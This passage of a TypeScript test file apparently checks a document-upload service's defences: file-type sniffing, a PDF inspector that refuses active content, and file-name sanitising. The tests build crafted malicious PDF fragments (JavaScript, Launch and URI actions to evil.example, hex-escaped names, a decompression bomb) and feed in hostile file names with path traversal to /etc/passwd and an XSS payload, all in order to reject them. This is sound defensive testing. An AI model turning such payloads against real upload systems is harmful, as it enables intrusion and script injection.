    const r = await admin(server, 'documents', 'reject', String(d.id), '--reason', 'The scan is blurry');
    expect(r.code, r.stderr).toBe(0);
    const listed = await server.api('GET', '/api/v2/user/documents', undefined, u.token);
    expect(listed.body.data.documents[0]).toMatchObject({ id: d.id, status: 'rejected', rejection_reason: 'The scan is blurry' });
    // A rejected document may be deleted to upload a better one.
    expect((await server.api('DELETE', `/api/v2/documents/${d.id}`, undefined, u.token)).status).toBe(200);
  });
});

describe('content sniffing and file names (units)', () => {
  it('recognises only the accepted formats by their first bytes', async () => {
    expect(sniffType(await pngWithText())).toBe('image/png');
    expect(sniffType(await jpegWithExif())).toBe('image/jpeg');
    expect(sniffType(await webp())).toBe('image/webp');
    expect(sniffType(await gif())).toBe('image/gif');
    expect(sniffType(pdf())).toBe('application/pdf');
    for (const other of [EXE, ELF, SCRIPT, TEXT, SVG, Buffer.alloc(0), Buffer.from('RIFF\0\0\0\0WAVEfmt ', 'latin1')]) expect(sniffType(other)).toBeNull();
  });

  it('wants a PDF to end with %%EOF within its last kilobyte', () => {
    expect(isCompletePdf(pdf())).toBe(true);
    expect(isCompletePdf(pdf(' '.repeat(900)))).toBe(true);
    expect(isCompletePdf(pdf('x'.repeat(1100)))).toBe(false);
    expect(isCompletePdf(Buffer.from('%PDF-1.7\n'))).toBe(false);
  });

  it('looks into PDFs: every kind of active content is refused, what only shows pages is not', () => {
    const verdict = (pdf: Buffer) => {
      const v = inspectPdf(pdf);
      return v.ok ? 'ok' : v.problem;
    };
    const withCatalog = (extra: string, ...more: PdfObject[]) => buildPdf([...cleanPdfObjects(extra), ...more]);
    const openAction = (value: string, ...more: PdfObject[]) => {
      const objects = cleanPdfObjects();
      objects[0] = `<< /Type /Catalog /Pages 2 0 R /OpenAction ${value} >>`;
      return buildPdf([...objects, ...more]);
    };

    expect(verdict(PDFS.clean())).toBe('ok');
    expect(verdict(PDFS.javascript())).toBe('active');
    expect(verdict(PDFS.escapedName())).toBe('active');
    expect(verdict(PDFS.inObjectStream())).toBe('active');
    expect(verdict(PDFS.encrypted())).toBe('encrypted');
    // The compressed one hides its action from a plain byte search; the same file with a
    // harmless catalog passes.
    expect(PDFS.inObjectStream().includes('JavaScript')).toBe(false);
    expect(PDFS.inObjectStream().includes('OpenAction')).toBe(false);
    const quietPlain = cleanPdfObjects();
    quietPlain[0] = '<< /Producer (Scanner 3000) >>';
    expect(verdict(buildCompressedPdf(quietPlain, ['<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>', '<< /Title (Statement) >>']))).toBe('ok');
    expect(verdict(buildCompressedPdf(quietPlain, ['<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA 9 0 R >> >>']))).toBe('active');

    // Each active name on its own.
    for (const name of ['JS', 'AA', 'Launch', 'EmbeddedFiles', 'EmbeddedFile', 'EF', 'FileAttachment', 'RichMedia', 'XFA', 'SubmitForm', 'ImportData', 'GoToR', 'GoToE', 'Rendition']) {
      expect(verdict(withCatalog(`/Extra << /${name} 1 >> `)), name).toBe('active');
    }
    // #-escapes anywhere in a name, upper or lower case hex.
    expect(verdict(withCatalog('/#41A << /O 1 >> '))).toBe('active');
    expect(verdict(withCatalog('/Names << /#45#6d#62#65#64#64#65#64#46#69#6c#65#73 6 0 R >> ', '<< >>'))).toBe('active');

    // /OpenAction: a destination or a plain GoTo (as pdfTeX writes it) is fine, any other action not.
    expect(verdict(openAction('[3 0 R /XYZ 0 792 0]'))).toBe('ok');
    expect(verdict(openAction('6 0 R', '[3 0 R /Fit]'))).toBe('ok');
    expect(verdict(openAction('<< /S /GoTo /D [3 0 R /Fit] >>'))).toBe('ok');
    expect(verdict(openAction('<< /S /URI /URI (https://evil.example/) >>'))).toBe('active');
    expect(verdict(openAction('<< /S /Named /N /Print >>'))).toBe('active');
    expect(verdict(openAction('6 0 R', '<< /S /URI /URI (https://evil.example/) >>'))).toBe('active');
    expect(verdict(openAction('9 0 R'))).toBe('active'); // points nowhere: cannot be judged
    expect(verdict(openAction('<< /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>', '<< /S /URI /URI (x) >>'))).toBe('active');
    // The same in an object stream, where the referenced object is compressed too.
    const objects = cleanPdfObjects();
    objects[0] = '<< /Type /Catalog /Pages 2 0 R /OpenAction 7 0 R >>';
    expect(verdict(buildPdf([...objects, objectStream(7, ['<< /S /GoTo /D [3 0 R /Fit] >>'])]))).toBe('ok');
    expect(verdict(buildPdf([...objects, objectStream(7, ['<< /S /URI /URI (https://evil.example/) >>'])]))).toBe('active');
    // An object stream that is not tagged /ObjStm but has /N and /First is read too.
    const untagged = objectStream(7, ['<< /S /J#53 (x) >>']);
    expect(verdict(buildPdf([...cleanPdfObjects(), { ...untagged, dict: untagged.dict.replace('/Type /ObjStm ', '') }]))).toBe('active');

    // Object streams that cannot be looked into are refused as unreadable.
    const ascii85 = { dict: '/Type /ObjStm /N 1 /First 4 /Filter /ASCII85Decode', data: Buffer.from('9jqo^BlbD-BleB1DJ+*+F(f,q/0JhKF<GL>Cj@.4Gp$d7F!,L7@<6@)/0JDEF<G%<+EV:2F!,O<DJ+*.@<*K0@<6L(Df-\\0Ec5e;DffZ(EZee.Bl.9pF"AGXBPCsi+DGm>@3BB/F*&OCAfu2/AKYi(DIb:@FD,*)+C]U=@3BN#EcYf8ATD3s@q?d$AftVqCh[NqF<G:8+EV:.+Cf>-FD5W8ARlolDIal(DId<j@<?3r@:F%a+D58\'ATD4$Bl@l3De:,-DJs`8ARoFb/0JMK@qB4^F!,R<AKZ&-DfTqBG%G>uD.RTpAKYo\'+CT/5+Cei#DII?(E,9)oF*2M7/c~>') };
    expect(verdict(buildPdf([...cleanPdfObjects(), ascii85]))).toBe('unreadable');
    const broken = { dict: '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', data: Buffer.from('definitely not zlib data', 'latin1') };
    expect(verdict(buildPdf([...cleanPdfObjects(), broken]))).toBe('unreadable');
    const predictor = objectStream(7, ['<< >>']);
    expect(verdict(buildPdf([...cleanPdfObjects(), { ...predictor, dict: `${predictor.dict} /DecodeParms << /Predictor 12 /Columns 4 >>` }]))).toBe('unreadable');
    // A decompression bomb is cut off, not inflated.
    const bomb = { dict: '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', data: zlib.deflateSync(Buffer.alloc(80 * 1024 * 1024, 0x20)) };
    expect(verdict(buildPdf([...cleanPdfObjects(), bomb]))).toBe('unreadable');

    // Stream data (images, fonts, page content) is searched for the long names only: two-letter
    // names turn up by chance in binary data, a long one in a page stream is refused.
    const binary = { dict: '/Type /XObject /Subtype /Image /Width 4 /Height 4 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /DCTDecode', data: Buffer.from('\xff\xd8\x01/JS\x00/AA /EF)\xff\xd9', 'latin1') };
    expect(verdict(buildPdf([...cleanPdfObjects(), binary]))).toBe('ok');
    const scriptInContent = { dict: '', data: Buffer.from('BT (x) Tj ET /JavaScript', 'latin1') };
    expect(verdict(buildPdf([...cleanPdfObjects(), scriptInContent]))).toBe('active');
    // Strings and comments are not names, but a long name hidden there is still refused.
    expect(verdict(withCatalog('/Title (Notes on /JS and /AA) '))).toBe('ok');
    expect(verdict(withCatalog('/Title (see /JavaScript) '))).toBe('active');
    expect(verdict(Buffer.concat([PDFS.clean().subarray(0, 20), Buffer.from('% 9 0 obj << /S /Launch >> endobj\n', 'latin1'), PDFS.clean().subarray(20)]))).toBe('active');
    // Incomplete is incomplete, and nonsense nested without end is not read for ever.
    expect(verdict(PDFS.clean().subarray(0, 200))).toBe('incomplete');
    expect(verdict(Buffer.concat([Buffer.from('%PDF-1.4\n1 0 obj\n'), Buffer.alloc(100_000, '['), Buffer.from('\n%%EOF\n')]))).toBe('unreadable');
  });

  it('reads the PDFs real tools make without refusing them', () => {
    // Chromium's "print to PDF" of a statement page: compressed streams, a font, a link whose
    // address holds /AA/JS (in a string: not names).
    const printed = fs.readFileSync(path.resolve('tests/server/fixtures/chromium-statement.pdf'));
    expect(printed.includes('/URI (https://bank.example/AA/JS/help')).toBe(true);
    expect(inspectPdf(printed)).toEqual({ ok: true });
    // What pdfTeX writes: the catalog in an object stream, opening with a GoTo action.
    const plain = cleanPdfObjects();
    plain[0] = '<< /Producer (pdfTeX-1.40) >>';
    expect(inspectPdf(buildCompressedPdf(plain, ['<< /Type /Catalog /Pages 2 0 R /OpenAction 8 0 R >>', '<< /S /GoTo /D [3 0 R /Fit] >>']))).toEqual({ ok: true });
    // And whatever PDFs this machine has (Debian's TeX-made manuals).
    for (const f of ['/usr/share/doc/shared-mime-info/shared-mime-info-spec.pdf', '/usr/share/doc/libtasn1-doc/libtasn1.pdf'].filter((x) => fs.existsSync(x))) {
      expect(inspectPdf(fs.readFileSync(f)), f).toEqual({ ok: true });
    }
  });

  it('runs the check on a worker thread, in order, with the same verdicts', async () => {
    const printed = fs.readFileSync(path.resolve('tests/server/fixtures/chromium-statement.pdf'));
    const files = [PDFS.clean(), printed, PDFS.clean().subarray(0, 200)];
    const verdicts = await Promise.all(files.map((f) => checkPdf(f)));
    expect(verdicts).toEqual(files.map((f) => inspectPdf(f)));
    expect(verdicts.map((v) => v.ok)).toEqual([true, true, false]);
  });

  it('turns any uploaded name into a harmless display name with the real extension', () => {
    expect(sanitizeFileName('../../etc/passwd.png', 'image/png')).toBe('passwd.png');
    expect(sanitizeFileName('C:\\temp\\scan 01 (copy).JPG', 'image/jpeg')).toBe('scan 01 (copy).jpg');
    expect(sanitizeFileName('evil.php.jpg', 'application/pdf')).toBe('evil.php.pdf');
    expect(sanitizeFileName('<img src=x onerror=alert(1)>.png', 'image/png')).toBe('img src_x onerror_alert(1).png');
    expect(sanitizeFileName('', 'image/webp')).toBe('document.webp');
    expect(sanitizeFileName('паспорт\u0000\u202e.pdf', 'application/pdf')).toBe('паспорт.pdf');
    expect(sanitizeFileName('a'.repeat(300) + '.pdf', 'application/pdf')).toHaveLength(100);
  });
});
